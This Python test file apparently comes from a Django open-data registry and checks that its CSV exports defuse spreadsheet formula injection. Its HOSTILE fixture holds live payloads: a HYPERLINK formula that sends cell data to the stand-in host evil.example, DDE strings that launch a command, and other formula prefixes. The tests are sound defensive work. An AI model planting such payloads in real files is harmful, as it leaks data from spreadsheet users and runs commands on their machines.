"""No CSV the project writes runs as a spreadsheet formula.

Played by someone who gets text into the registry (an import, a careless editor, a
hostile source) so that a researcher's spreadsheet runs it when the open data is opened."""

import csv
import io
import urllib.request
from decimal import Decimal

import pytest
from django.core.management import call_command

from solidarity.opendata.views import CHARTS
from solidarity.registry import models as m
from solidarity.registry.partial_date import PartialDate
from solidarity.registry.tests.factories import make_case, make_person
from solidarity.spreadsheets import FORMULA_STARTS, PLAIN_NUMBER, safe_cell

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "full_name": "+cmd|' /C calc'!A0",
    "region": "@SUM(1+1)",
    "case": "-2+3+cmd|' /C calc'!A0",
    "alias": "\t=1+1",
    "place": "\r=1+1",
}


@pytest.fixture
def hostile(db, facility):
    person = make_person(
        HOSTILE["name"], slug="formula", full_name=HOSTILE["full_name"],
        region=HOSTILE["region"], facility=facility,
    )  # fmt: skip
    m.PersonAlias.objects.create(person=person, name=HOSTILE["alias"])
    case = make_case(HOSTILE["case"], slug="formula-case", defendants=[person])
    article = m.Article.objects.get(code__code="RU", number="205.2")
    m.Charge.objects.create(person=person, case=case, article=article, part="2")
    m.Event.objects.create(person=person, type="detention", date=PartialDate.parse("2023-05-03"),
                           place=HOSTILE["place"])  # fmt: skip
    return person


def assert_no_formula(text: str, source: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, source
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert PLAIN_NUMBER.fullmatch(cell), (source, cell)
    return rows


def fetch(url: str) -> str:
    with urllib.request.urlopen(url, timeout=30) as response:  # noqa: S310 (the live server)
        assert response.status == 200
        return str(response.read().decode("utf-8"))


def test_it_neutralises_formulas_in_every_public_csv_over_http(live_server, hostile):
    urls = ["/data/prisoners.csv"] + [f"/stats/{key}.csv" for key, _title in CHARTS]
    for path in urls:
        assert_no_formula(fetch(live_server.url + path), path)
    people = fetch(live_server.url + "/data/prisoners.csv")
    assert "'" + HOSTILE["name"].replace('"', '""') in people  # shown, not run
    regions = assert_no_formula(fetch(live_server.url + "/stats/by_region.csv"), "by_region")
    assert ["RU:@SUM(1+1)", "'@SUM(1+1)", "1"] in regions  # the count stays a number


def test_it_neutralises_formulas_in_every_file_of_the_export(hostile, tmp_path):
    call_command("export", "--format", "csv", "--out", str(tmp_path), verbosity=0)
    files = sorted(tmp_path.glob("*.csv"))
    assert len(files) >= 4
    cells: set[str] = set()
    for path in files:
        rows = assert_no_formula(path.read_text(encoding="utf-8"), path.name)
        cells.update(cell for row in rows for cell in row)
    assert not cells & set(HOSTILE.values())
    assert "'" + HOSTILE["name"] in cells and "'" + HOSTILE["case"] in cells


def test_it_leaves_numbers_as_numbers():
    assert safe_cell(-12) == -12 and safe_cell(Decimal("-3.50")) == Decimal("-3.50")
    assert safe_cell("-12") == "-12" and safe_cell("+7.5") == "+7.5"
    assert safe_cell("-12+A1") == "'-12+A1" and safe_cell("@x") == "'@x"
    assert safe_cell("Moscow") == "Moscow" and safe_cell("") == ""
